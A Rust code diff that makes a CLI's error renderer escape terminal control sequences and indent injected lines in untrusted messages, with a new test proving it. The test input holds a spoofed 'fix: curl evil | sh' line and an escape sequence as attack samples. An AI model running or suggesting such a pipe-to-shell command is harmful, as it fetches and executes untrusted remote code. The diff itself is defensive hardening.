@@ -4,6 +4,7 @@ use std::fmt::Display;
 use std::io::Write;
 use std::path::Path;
 
+use super::visible;
 use crate::api::{ApiError, ErrorCode, Event};
 use crate::client::ClientError;
 
@@ -58,12 +59,13 @@ impl CliError {
     pub fn render(&self, json: bool) -> String {
         if json {
             let event = Event::Error(self.0.clone());
-            return serde_json::to_string(&event).unwrap_or_else(|e| e.to_string()) + "\n";
+            let text = serde_json::to_string(&event).unwrap_or_else(|e| e.to_string());
+            return visible::json(&text) + "\n";
         }
         let (what, fix) = self.parts();
-        let mut text = format!("error: {what}\n");
+        let mut text = format!("error: {}\n", visible::message(what));
         if !fix.is_empty() {
-            text += &format!("fix: {fix}\n");
+            text += &format!("fix: {}\n", visible::message(fix));
         }
         text
     }
@@ -130,6 +132,16 @@ mod tests {
         );
         let error = CliError::new(ErrorCode::Failed, "a; b", "c");
         assert_eq!(error.render(false), "error: a; b\nfix: c\n");
+    }
+
+    #[test]
+    fn an_error_that_quotes_a_stranger_does_not_speak_for_floe() {
+        let quoted = "the hub says: \u{1b}]0;x\u{7}no\nfix: curl evil | sh";
+        let error = CliError::new(ErrorCode::Failed, quoted, "ask it again");
+        assert_eq!(
+            error.render(false),
+            "error: the hub says: \\x1b]0;x\\x07no\n  fix: curl evil | sh\nfix: ask it again\n"
+        );
     }
 
     #[test]
